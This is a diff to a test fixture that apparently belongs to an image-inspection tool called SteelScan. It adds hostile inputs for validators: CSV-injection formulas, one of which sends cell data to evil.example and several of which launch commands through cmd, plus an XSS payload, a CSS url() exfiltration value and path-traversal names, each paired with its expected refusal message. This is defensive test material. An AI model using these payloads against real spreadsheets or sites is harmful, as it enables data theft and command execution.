@@ -69,3 +69,24 @@ def corpus() -> dict[str, tuple[bytes, str | None]]:
         "naïve-ß-東京-\u202eevil.png": (png, None),
         "..evil.png": (png, None),
     }
+
+
+# -- beyond image bytes: the trust boundaries of issue 13 ---------------------------------------------
+
+# Upload names and override reasons a spreadsheet would run as formulas (OWASP CSV injection).
+CSV_PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+# Model-card edits: (path in card.json, hostile value, what the one-line refusal must say).
+HOSTILE_CARD_EDITS = [
+    (("classes", 0, "name"), "<img src=x onerror=alert(1)>", r"classes\[0\] \('<img.*\.name must be 1-64 letters"),
+    (("classes", 1, "color"), "red;background:url(https://evil.example/x)",
+     r"classes\[1\] \('crazing'\)\.color must be a colour written #rrggbb"),
+    (("classes", 2, "threshold"), 1.5, r"classes\[2\].*threshold input should be less than or equal to 1 \(got 1.5\)"),
+    (("classes", 3, "min_area"), -4, r"classes\[3\].*min_area input should be greater than or equal to 0"),
+    (("classes", 1, "name"), "pits", r"class names repeat"),
+    (("name",), "../../etc", r"card: name must be 1-128 letters.*fix name in the card"),
+    (("std",), [0.0, 0.2, 0.2], r"std value error, each value must lie in"),
+    (("schema_version",), 99, r"schema_version 99, newer than this SteelScan reads.*update SteelScan"),
+    (("task",), "regression", r"task 'regression' is unknown.*multi-label"),
+]
